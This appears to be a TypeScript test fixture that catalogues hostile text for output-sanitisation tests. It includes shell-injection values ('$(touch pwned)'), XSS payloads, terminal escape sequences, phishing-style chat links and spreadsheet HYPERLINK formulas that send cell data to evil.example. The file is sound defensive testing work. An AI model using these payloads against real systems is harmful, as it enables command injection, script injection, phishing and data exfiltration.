/**
 * Attacker text, by class, for tests of everything printed for people: every C0 control, DEL,
 * every C1 control, the bidi controls and other invisible format characters, terminal escape
 * sequences (CSI, OSC, OSC-8 hyperlinks), every formula lead, shell metacharacters, chat and HTML
 * markup. Each text is a small, distinct string, usable as a replica id, name or message.
 */

/** What a spreadsheet may read as the start of a formula. */
export const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r'];

const range = (from: number, to: number): string[] => Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));

/** C0 (U+0000–U+001F), DEL, C1 (U+0080–U+009F). */
export const CONTROL_CHARACTERS = [...range(0x00, 0x1f), '\x7f', ...range(0x80, 0x9f)];

/** Bidi embeddings, overrides, isolates and marks: text that reorders what is shown. */
export const BIDI_CONTROLS = [...range(0x202a, 0x202e), ...range(0x2066, 0x2069), '\u200e', '\u200f', '\u061c'];

/** Invisible format characters and separators that are not bidi controls. */
export const INVISIBLE_CHARACTERS = ['\u00ad', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u2028', '\u2029', '\u{e0041}'];

/** Sequences a terminal acts on. */
export const ESCAPE_SEQUENCES = [
  '\x1b[31mred\x1b[0m',
  '\x1b[2J\x1b[H',
  '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
  '\x1b]0;pwned title\x07',
  '\x9b31m',
  '\x1bP+q\x1b\\',
  'line one\rinfo  forged log line',
  'ok\nerror forged second line',
];

/** Shell metacharacters that would run code or split a command if printed unquoted. */
export const SHELL_TEXTS = ['a$(touch pwned)', 'b`touch pwned`', "c'quote", 'd"double', 'e;touch pwned', 'f\ntouch pwned', 'g|h&i', '-h', '--all', 'j k', 'l$HOME', 'm\\n', '*', '~'];

/** Chat markup that could mention, link or format. */
export const CHAT_TEXTS = ['<!channel>', '<!here|here>', '<@U123ABC>', '<https://evil.example|Reset your password>', '[Reset your password](https://evil.example/)', '*bold* _it_ ~gone~', 'a & b', 'x`y'];

/** HTML that would run or break an attribute if not escaped. */
export const HTML_TEXTS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)"];

/** Every class at once: each hostile character inside and at the start of a short text. */
export function hostileTexts(): string[] {
  const single = [...CONTROL_CHARACTERS, ...BIDI_CONTROLS, ...INVISIBLE_CHARACTERS];
  return [
    ...single.map((c) => `in${c}side`),
    ...single.map((c) => `${c}lead`),
    ...ESCAPE_SEQUENCES,
    ...FORMULA_LEADS.map((lead) => `${lead}HYPERLINK("http://evil.example/?x="&A1,"Click")`),
    ...SHELL_TEXTS,
    ...CHAT_TEXTS,
    ...HTML_TEXTS,
  ];
}

/**
 * The characters that must never reach a terminal raw: controls (line ends aside, which the
 * output itself uses), format characters (bidi and invisible ones), line and paragraph separators.
 */
const RAW_FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Cf}\u2028\u2029]/gu;

/** The forbidden characters found in `output`, as code points ("U+001B"), none when it is clean. */
export function rawControlsIn(output: string): string[] {
  return [...new Set([...output.matchAll(RAW_FORBIDDEN)].map((match) => `U+${match[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`))];
}
